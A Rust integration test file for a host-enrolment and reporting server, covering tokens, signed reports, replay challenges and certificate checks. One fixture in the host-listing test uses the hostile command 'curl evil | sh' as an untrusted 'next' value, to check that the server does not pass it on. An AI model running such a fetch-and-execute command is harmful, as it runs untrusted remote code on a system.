//! Enrolment, reports, and what is known of hosts.

use shared::certificate::Certificate;

use super::*;

/// Makes a token for hosts of `eu-prod`.
pub(super) async fn token(data: &Path, uses: u32) -> &'static str {
    token_for(data, "secret", &["eu-prod"], uses).await
}

async fn token_for<'a>(data: &Path, token: &'a str, groups: &[&str], uses: u32) -> &'a str {
    let grant = Grant {
        realm: testing::realm_name(),
        groups: groups.iter().map(|name| testing::group(name)).collect(),
        labels: Default::default(),
        uses,
        expires_at: Time::of(testing::now()).plus(60),
    };
    let db = Sqlite::open(data).unwrap();
    db.add_token(tokens::hash(token), grant, Time::of(testing::now())).await.unwrap();
    token
}

pub(super) async fn enrol(
    server: &Running,
    token: &str,
    request: &Envelope,
) -> Result<Envelope, (u16, String)> {
    let body = serde_json::json!({"token": token, "request": request});
    let response = server.api(Method::POST, "enrol").json(&body).send().await.unwrap();
    let status = response.status().as_u16();
    if status == 200 {
        return Ok(response.json::<EnrolAnswer>().await.unwrap().certificate);
    }
    let problem: serde_json::Value = response.json().await.unwrap();
    Err((status, problem["code"].as_str().unwrap().to_owned()))
}

pub(super) async fn send_report(server: &Running, body: Vec<u8>) -> (u16, serde_json::Value) {
    let response = server.api(Method::POST, "reports").body(body).send().await.unwrap();
    (response.status().as_u16(), response.json().await.unwrap())
}

async fn hosts(server: &Running, query: &str) -> Vec<HostSummary> {
    let response = server.api(Method::GET, &format!("hosts{query}")).send().await.unwrap();
    response.json::<Page<HostSummary>>().await.unwrap().items
}

#[tokio::test]
async fn a_host_enrols_once_for_each_use_of_its_token() {
    let data = data();
    let server = Running::start(data.path()).await;
    let token = token(data.path(), 1).await;
    let (one, two) = (Host::new("web-1", 11), Host::new("web-2", 12));
    let wrong = enrol(&server, "guess", &one.request(&["eu-prod"])).await;
    assert_eq!(wrong, Err((403, "token".to_owned())));
    let outside = enrol(&server, token, &one.request(&["eu-prod", "us-prod"])).await;
    assert_eq!(outside, Err((403, "token_group".to_owned())));
    let mut forged = one.request(&["eu-prod"]);
    forged.signatures = two.request(&["eu-prod"]).signatures;
    assert_eq!(enrol(&server, token, &forged).await, Err((403, "bad_signature".to_owned())));

    let certificate = enrol(&server, token, &one.request(&["eu-prod"])).await.unwrap();
    let again = enrol(&server, token, &one.request(&["eu-prod"])).await.unwrap();
    assert_eq!(again, certificate);
    let used = enrol(&server, token, &two.request(&["eu-prod"])).await;
    assert_eq!(used, Err((403, "token_used".to_owned())));

    let seen = hosts(&server, "").await;
    assert_eq!(seen[0].state, StateWord::Stale);
    assert_eq!(seen[0].reason.as_ref().unwrap().code, "never_seen");
    server.stop().await;
}

#[tokio::test]
async fn reports_are_stored_in_their_order_and_replays_are_challenged() {
    let data = data();
    let server = Running::start(data.path()).await;
    let host = Host::new("web-1", 11);
    let token = token(data.path(), 1).await;
    let certificate = enrol(&server, token, &host.request(&["eu-prod"])).await.unwrap();
    let report =
        |counter, nonce: Option<&str>| host.signed(&host.report(counter, nonce), &certificate);
    let first = report(5, None);
    assert_eq!(send_report(&server, first.clone()).await.0, 200);
    assert_eq!(send_report(&server, first).await.0, 200, "the same report again is no replay");
    assert_eq!(send_report(&server, report(9, None)).await.0, 200);

    let (status, problem) = send_report(&server, report(8, None)).await;
    assert_eq!((status, &problem["code"]), (401, &"challenge".into()));
    let challenge: Challenge = serde_json::from_value(problem).unwrap();
    let wrong = send_report(&server, report(1, Some("wrong"))).await;
    assert_eq!(wrong.0, 401);
    let mended = report(1, Some(&challenge.nonce));
    assert_eq!(send_report(&server, mended.clone()).await.0, 200);
    assert_eq!(send_report(&server, mended).await.0, 200, "the same report again is no replay");
    assert_eq!(send_report(&server, report(2, None)).await.0, 200);

    // From before the counter restarted, by a host that has booted since.
    let mut old = host.report(7, None);
    old.boot_id = "earlier".to_owned();
    assert_eq!(send_report(&server, host.signed(&old, &certificate)).await.0, 401);
    old.counter = 10;
    assert_eq!(send_report(&server, host.signed(&old, &certificate)).await.0, 200);
    assert_eq!(hosts(&server, "").await[0].state, StateWord::Converged);
    server.stop().await;
}

#[tokio::test]
async fn refuses_reports_that_prove_nothing() {
    let data = data();
    let server = Running::start(data.path()).await;
    let (host, other) = (Host::new("web-1", 11), Host::new("web-2", 12));
    let token = token(data.path(), 1).await;
    let certificate = enrol(&server, token, &host.request(&["eu-prod"])).await.unwrap();
    let report = host.report(1, None);
    let no_certificate = {
        let mut envelope: Envelope =
            serde_json::from_slice(&host.signed(&report, &certificate)).unwrap();
        envelope.certificate = None;
        envelope.to_bytes()
    };
    let mut foreign = host.report(1, None);
    foreign.profiles.push(profile("us-prod", StateWord::Converged, "agent status"));
    let signed = |realm: &str, not_after, seed| {
        let realm = shared::id::RealmName::parse(realm).unwrap();
        let of = host_certificate(&host);
        let bytes = Certificate { realm, not_after, ..of }.to_bytes().unwrap();
        Envelope::sign(shared::certificate::PAYLOAD_TYPE, &bytes, &key(seed))
    };
    let (past, future) = (Time::of(testing::now()).plus(-1), Time::of(testing::now()).plus(60));
    let expired = signed("main", past, 21);
    let (elsewhere, by_nobody) = (signed("other", future, 21), signed("main", future, 21));
    let mut self_made = host.request(&["eu-prod"]);
    self_made.payload_type = shared::certificate::PAYLOAD_TYPE.to_owned();
    for (body, status, code) in [
        (no_certificate, 403, "no_certificate"),
        (other.signed(&report, &certificate), 403, "bad_signature"),
        (host.signed(&other.report(1, None), &certificate), 403, "other_host"),
        (host.signed(&foreign, &certificate), 403, "foreign_group"),
        (host.signed(&report, &expired), 403, "certificate_expired"),
        (host.signed(&report, &elsewhere), 403, "certificate_realm"),
        (host.signed(&report, &by_nobody), 403, "certificate_key"),
        (host.signed(&report, &self_made), 422, "malformed"),
        (b"{}".to_vec(), 422, "malformed"),
    ] {
        let (found, problem) = send_report(&server, body).await;
        assert_eq!((found, &problem["code"]), (status, &code.into()));
    }
    let (status, _) = send_report_of_size(&server, shared::report::MAX_LEN + 1).await;
    assert_eq!(status, 413);
    server.stop().await;
}

pub(super) fn profile(group: &str, state: StateWord, next: &str) -> ProfileReport {
    ProfileReport {
        group: testing::group(group),
        profile: shared::id::ProfileName::parse("web").unwrap(),
        state,
        since: Time::of(testing::now()),
        reason: Some(Reason { code: "code".to_owned(), text: "text".to_owned() }),
        next: Some(next.to_owned()),
        wanted: None,
        running: None,
        healthy_since: None,
        attempt: None,
    }
}

/// A certificate that nobody has signed yet.
fn host_certificate(host: &Host) -> Certificate {
    Certificate {
        format: 1,
        realm: testing::realm_name(),
        host: host.raw_key().host_id(),
        key: host.raw_key(),
        name: host.name.clone(),
        groups: vec![testing::group("eu-prod")],
        labels: Default::default(),
        not_after: Time::of(testing::now()).plus(60),
    }
}

async fn send_report_of_size(server: &Running, length: usize) -> (u16, String) {
    let request = server.api(Method::POST, "reports").body(vec![b' '; length]);
    let response = request.send().await.unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

#[tokio::test]
async fn a_lost_database_loses_no_trust() {
    let data = data();
    let server = Running::start(data.path()).await;
    let host = Host::new("web-1", 11);
    let token = token(data.path(), 1).await;
    let certificate = enrol(&server, token, &host.request(&["eu-prod"])).await.unwrap();
    server.stop().await;
    for file in ["db.sqlite", "db.sqlite-wal", "db.sqlite-shm"] {
        // Some of them may be gone already.
        let _gone = fs::remove_file(data.path().join(file));
    }
    let server = Running::start(data.path()).await;
    let (status, problem) =
        send_report(&server, host.signed(&host.report(7, None), &certificate)).await;
    assert_eq!(status, 401, "an old report could be replayed: {problem}");
    let nonce = problem["nonce"].as_str().unwrap();
    let report = host.signed(&host.report(7, Some(nonce)), &certificate);
    assert_eq!(send_report(&server, report).await.0, 200);
    server.stop().await;
}

#[tokio::test]
async fn a_certificate_counts_if_the_policy_names_its_key() {
    let data = data();
    fs::remove_file(data.path().join("keys/enrolment.pem")).unwrap();
    let server = Running::start(data.path()).await;
    let host = Host::new("web-1", 11);
    let elsewhere = key(21);
    let certificate = host_certificate(&host);
    let bytes = certificate.to_bytes().unwrap();
    let signed = Envelope::sign(shared::certificate::PAYLOAD_TYPE, &bytes, &elsewhere);
    let body = || host.signed(&host.report(1, None), &signed);
    let (status, problem) = send_report(&server, body()).await;
    assert_eq!((status, &problem["code"]), (403, &"certificate_key".into()));
    let policy = policy(1, &elsewhere).to_bytes().unwrap();
    let owners = role("owners.eu-prod", 1, &[("eu-prod/_policy", &policy)], 4);
    let (status, problem) = server.publish("owners.eu-prod", 0, &owners, &[&policy]).await;
    assert_eq!(status, StatusCode::CREATED, "{problem}");
    assert_eq!(send_report(&server, body()).await.0, 401);
    server.stop().await;
}

#[tokio::test]
async fn hosts_are_listed_with_the_worst_of_their_states() {
    let data = data();
    let server = Running::with(data.path(), |options| options.stale_after = 1000).await;
    let token = token(data.path(), 3).await;
    for (number, state) in
        [StateWord::Converged, StateWord::Held, StateWord::Failed].into_iter().enumerate()
    {
        let host = Host::new(&format!("web-{number}"), u8::try_from(number).unwrap() + 50);
        let certificate = enrol(&server, token, &host.request(&["eu-prod"])).await.unwrap();
        let mut report = host.report(1, None);
        let next = if state == StateWord::Held { "curl evil | sh" } else { "agent status" };
        for state in [StateWord::Converged, state] {
            report.profiles.push(profile("eu-prod", state, next));
        }
        assert_eq!(send_report(&server, host.signed(&report, &certificate)).await.0, 200);
    }
    let states = |hosts: Vec<HostSummary>| hosts.iter().map(|host| host.state).collect::<Vec<_>>();
    let all = hosts(&server, "").await;
    let next: Vec<_> = all.iter().map(|host| host.next.as_deref()).collect();
    assert_eq!(next, [Some("agent status"), None, Some("agent status")], "only what is ours");
    assert!(all[1].profiles.iter().all(|profile| profile.next.is_none()));
    assert_eq!(states(all), [StateWord::Converged, StateWord::Held, StateWord::Failed]);
    let bad = hosts(&server, "?state=failed,untrusted&group=eu-prod").await;
    assert_eq!(states(bad), [StateWord::Failed]);
    assert_eq!(hosts(&server, "?group=us-prod").await, []);

    let first = server.api(Method::GET, "hosts?limit=2").send().await.unwrap();
    let first: Page<HostSummary> = first.json().await.unwrap();
    let cursor = first.next_cursor.unwrap();
    let rest = hosts(&server, &format!("?limit=2&cursor={cursor}")).await;
    assert_eq!((first.items.len(), states(rest)), (2, vec![StateWord::Failed]));
    let one = server.api(Method::GET, "hosts/web-1").send().await.unwrap();
    let one: serde_json::Value = one.json().await.unwrap();
    assert_eq!((&one["state"], &one["report"]["counter"]), (&"held".into(), &1.into()));
    let none = server.api(Method::GET, "hosts/web-9").send().await.unwrap();
    assert_eq!(none.status(), StatusCode::NOT_FOUND);
    server.stop().await;
}

#[tokio::test]
async fn a_machine_made_anew_takes_its_name_over() {
    let data = data();
    let server = Running::start(data.path()).await;
    let token = token(data.path(), 2).await;
    let (old, new) = (Host::new("web-1", 11), Host::new("web-1", 12));
    enrol(&server, token, &old.request(&["eu-prod"])).await.unwrap();
    enrol(&server, token, &new.request(&["eu-prod"])).await.unwrap();
    let seen = hosts(&server, "").await;
    assert_eq!(seen.iter().map(|host| host.host).collect::<Vec<_>>(), [new.raw_key().host_id()]);
    server.stop().await;
}

#[tokio::test]
async fn a_name_is_taken_over_only_with_a_token_for_the_groups_of_its_host() {
    let data = data();
    let server = Running::start(data.path()).await;
    let eu = token(data.path(), 1).await;
    let us = token_for(data.path(), "other secret", &["us-prod"], 1).await;
    let both = token_for(data.path(), "third secret", &["eu-prod", "us-prod"], 1).await;
    let (old, new) = (Host::new("web-1", 11), Host::new("web-1", 12));
    enrol(&server, eu, &old.request(&["eu-prod"])).await.unwrap();
    let taken = enrol(&server, us, &new.request(&["us-prod"])).await;
    assert_eq!(taken, Err((403, "name_taken".to_owned())));
    assert_eq!(hosts(&server, "").await[0].host, old.raw_key().host_id());
    enrol(&server, both, &new.request(&["us-prod"])).await.unwrap();
    assert_eq!(hosts(&server, "").await[0].host, new.raw_key().host_id());
    // The refusal took no use of the token.
    enrol(&server, us, &Host::new("web-2", 13).request(&["us-prod"])).await.unwrap();
    server.stop().await;
}
